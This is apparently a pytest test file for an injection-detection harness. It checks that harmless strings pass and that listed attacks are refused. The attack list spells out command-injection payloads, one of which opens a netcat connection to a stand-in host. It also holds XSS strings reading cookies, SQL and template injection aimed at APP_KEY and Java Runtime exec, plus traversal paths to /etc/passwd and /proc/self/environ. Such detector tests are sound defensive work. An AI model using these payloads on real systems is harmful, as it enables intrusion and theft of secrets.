"""Values reported from use: honest ones that were refused, and attacks that passed, each a member of its kind."""

from __future__ import annotations

import pytest

from injection_harness import as_json, query, request, said

HONEST = ["5 #", "1#", "''", "a:/x", "SCRIPT load fail: x", '{ __type(name: "User") { name } }',
          "<Menu onSelect={...}> closes", "c:/", "D:\\", "$$Session=1$$", "(****)", "hello;echo of the past",
          "name,concat(first,last)", "the beach;sleep well tonight my dear"]  # fmt: skip
ATTACKS = [";`nc a.example 80`", "&&$(id)", "| `id`", ";wh``oami", "<?=`{${~\"x\"}[\"y\"]}`;", "<button onclick={alert(1)}>",
           "<button onclick={alert`1`}>", "<button onclick={alert(1)//>", "<button onclick={location=name}>", "a.document.cookie+'x'", "127.0.0.1;echo test", "a.txt|touch now", "a[system('id')]", "sftp://files.example/x",
           "1,cAsT(chr(126)||vErSiOn()||chr(126) as numeric)", "unix:AAA|http://a.example/", "(*", "c:/windows/win.ini",
           "{{ env('APP_KEY') /*'*/ }}", "Dear {{ env('APP_KEY') /*)*/ }} user", "{{ dump(app) # '\n}}", "{{ x(\'\'\'a\'b\'\'\') }}",
           "${x['} ${T(java.lang.Runtime).getRuntime().exec('id')}"]  # fmt: skip
ROUTED = ["/v1/proc/self", "/api/etc/hosts", "/files/etc/passwd/meta"]
CLIMBING = [
    "/hax/..CFIDE/wizards/common/utils.cfc",
    "/proc/self/environ",
    "/etc/passwd",
    "/v1/x%5c..%5c..%5cetc%5cpasswd",
]


@pytest.mark.parametrize("value", HONEST)
def test_honest_values_pass(value: str) -> None:
    assert said(as_json({"a": value})) == [] == said(query(value))


@pytest.mark.parametrize("value", ATTACKS)
def test_attacks_are_refused(value: str) -> None:
    assert said(as_json({"a": value})) != [] and said(query(value)) != []


@pytest.mark.parametrize("path", ROUTED)
def test_a_path_that_does_not_climb_leads_to_an_operation(path: str) -> None:
    assert said(request(path)) == []
    assert said(query(path)) != [], "as a value it names a file"


@pytest.mark.parametrize("path", CLIMBING)
def test_a_path_of_the_machine_is_refused(path: str) -> None:
    assert said(request(path)) != []
